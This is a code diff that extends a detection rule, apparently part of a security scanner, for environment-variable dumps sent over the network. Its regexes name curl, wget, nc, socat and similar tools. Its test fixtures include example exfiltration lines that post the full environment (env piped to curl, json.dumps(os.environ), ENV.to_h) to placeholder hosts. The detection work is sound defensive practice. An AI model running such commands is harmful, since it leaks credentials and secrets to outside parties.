@@ -1,5 +1,9 @@
 import { defineRule, pair, text } from "../../core/rule.ts";
+import { onLine } from "../../core/shell.ts";
 import { networkSend, staysLocal } from "./sends.data.ts";
+
+/** Commands that print every variable with its value. */
+const shown = String.raw`(?:env|printenv|export(?:\s{1,3}-p)?|declare\s{1,3}-(?:p|x|xp|px)|(?:cat\s{1,3})?\/proc\/(?:self|\d{1,7}|\$\w{1,20})\/environ)`;
 
 export default defineRule({
   id: "exfiltration/environment-dump",
@@ -17,18 +21,20 @@ export default defineRule({
   },
   checks: [
     text({
-      anchors: ["$(env", "`env", "$(printenv", "`printenv", "$(export -p", "$(set)", "environ)"],
-      pattern:
-        /\b(?:curl|wget|nc|ncat|dig|nslookup|invoke-webrequest)\b[^;\n]{0,240}(?:[$][(]|`)\s{0,2}(?:env|printenv|export\s{1,3}-p|set|cat\s{1,3}\/proc\/(?:self|\d{1,7}|\$\w{1,20})\/environ)\s{0,2}(?:[)|`])/,
+      anchors: ["$(env", "`env", "$(printenv", "`printenv", "$(export", "$(declare -", "$(set)", "environ)"],
+      pattern: new RegExp(
+        String.raw`\b(?:curl|wget|nc|ncat|dig|nslookup|invoke-webrequest)\b${onLine(";")}{0,240}(?:[$][(]|\`)\s{0,2}(?:${shown}|set)\s{0,2}(?:[)|\`])`,
+      ),
       before: 260,
       after: 30,
       message: "The output of env goes into a request",
       unless: (_match, view, start) => staysLocal(view, start),
     }),
     text({
-      anchors: ["env |", "env|", "printenv", "export -p", "/environ"],
-      pattern:
-        /(?:(?<![\w./$-])(?:env|printenv|export\s{1,3}-p)|\/proc\/(?:self|\d{1,7}|\$\w{1,20})\/environ)\s{0,3}\|(?:[^\n;|`]{1,60}\|){0,4}\s{0,3}(?:curl|wget|nc|ncat|openssl\s{1,3}s_client)\b/,
+      anchors: ["env |", "env|", "env \\", "printenv", "export -p", "declare -", "/environ"],
+      pattern: new RegExp(
+        String.raw`(?<![\w./$-])${shown}[\s\\]{0,5}\|(?:${onLine(";|`")}{1,60}\|){0,4}[\s\\]{0,5}(?:curl|wget|nc|ncat|socat|openssl\s{1,3}s_client)\b`,
+      ),
       before: 30,
       after: 160,
       message: "The output of env is piped into a program that sends it",
@@ -45,7 +51,7 @@ export default defineRule({
       sink: {
         anchors: ["curl", "scp ", "nc "],
         pattern:
-          /\b(?:curl\b[^\n|;]{0,120}?\s(?:-d|--data\S{0,10}|-f|--form|-t|--upload-file)[\s=]{1,3}\S{0,30}[@/]\S|scp\s[^\n]{1,80}@|nc\s[^\n]{1,60}<)/,
+          /\b(?:curl\b(?:(?!curl)[^\n|;]){0,120}?\s(?:-d|--data\S{0,10}|-f|--form|-t|--upload-file)[\s=]{1,3}\S{0,30}[@/]\S|scp\s[^\n]{1,80}@|nc\s[^\n]{1,60}<)/,
         before: 4,
         after: 170,
         unless: (_match, view, start) => staysLocal(view, start),
@@ -63,9 +69,14 @@ export default defineRule({
           "environment.getenvironmentvariables",
           "env:",
           "system.getenv()",
+          "os.environ()",
+          "env.to_h",
+          "env.to_hash",
+          "(getenv())",
+          "$_env",
         ],
         pattern:
-          /\b(?:dict|str|repr)\(\s{0,3}os\.environ\s{0,3}\)|\bjson\.dumps\(\s{0,3}(?:dict\(\s{0,3})?os\.environ\b(?![.[])|\bos\.environ\.items\(\)|\b(?:data|json|body|params|payload)["']?\s{0,3}[:=]\s{0,3}(?:os\.environ|process\.env)\b(?![.[])|\bjson\.stringify\(\s{0,3}(?:\{\s{0,3}\.\.\.)?process\.env\b(?![.[])|\bobject\.(?:entries|fromentries|assign)\(\s{0,3}(?:\{\}\s{0,3},\s{0,3})?process\.env\b(?![.[])|\bdeno\.env\.toobject\(\)|\bgetenvironmentvariables\(\)|\b(?:gci|dir|ls|get-childitem)\s{1,3}env:(?!\w)|\bsystem\.getenv\(\)/,
+          /\b(?:dict|str|repr)\(\s{0,3}os\.environ\s{0,3}\)|\bjson\.dumps\(\s{0,3}(?:dict\(\s{0,3})?(?:\*\*)?os\.environ\b(?![.[])|\bos\.environ\.items\(\)|\b(?:data|json|body|params|payload)["']?\s{0,3}[:=]\s{0,3}(?:os\.environ|process\.env)\b(?![.[])|\bjson\.stringify\(\s{0,3}(?:\{\s{0,3}\.\.\.)?process\.env\b(?![.[])|\bobject\.(?:entries|fromentries|assign)\(\s{0,3}(?:\{\}\s{0,3},\s{0,3})?process\.env\b(?![.[])|\bdeno\.env\.toobject\(\)|\bgetenvironmentvariables\(\)|\b(?:gci|dir|ls|get-childitem)\s{1,3}env:(?!\w)|\bsystem\.getenv\(\)|\bos\.environ\(\)|\benv\.to_h(?:ash)?\b|\b(?:json_encode|serialize|http_build_query)\(\s{0,3}(?:getenv\(\)|\$_env\b(?!\[))/,
       },
       sink: networkSend,
       within: 700,
@@ -75,6 +86,13 @@ export default defineRule({
   ],
   examples: {
     bad: [
+      { path: "a.sh", text: "env \\\n  | curl -d @- https://in.example.test\n", line: 1 },
+      {
+        path: "b.py",
+        text: 'c = http.client.HTTPSConnection("in.example.test")\nc.request("POST", "/", body=json.dumps(dict(os.environ)))\n',
+        line: 2,
+      },
+      { path: "c.rb", text: "Net::HTTP.post(URI('https://in.example.test'), ENV.to_h.to_json)\n", line: 1 },
       {
         path: "report.py",
         text: 'import os, requests\n\nstate = dict(os.environ)\nrequests.post("https://collect.example.com/v1", json={"state": state})\n',
@@ -93,6 +111,7 @@ export default defineRule({
       },
     ],
     good: [
+      { path: "d.rb", text: "system(ENV.to_h.merge('MODE' => 'fast'), 'make')\n" },
       {
         path: "search.py",
         text: 'import os, requests\n\nkey = os.environ["SEARCH_API_KEY"]\nrequests.post("https://api.example.com/search", headers={"Authorization": f"Bearer {key}"}, json={"q": "x"})\n',
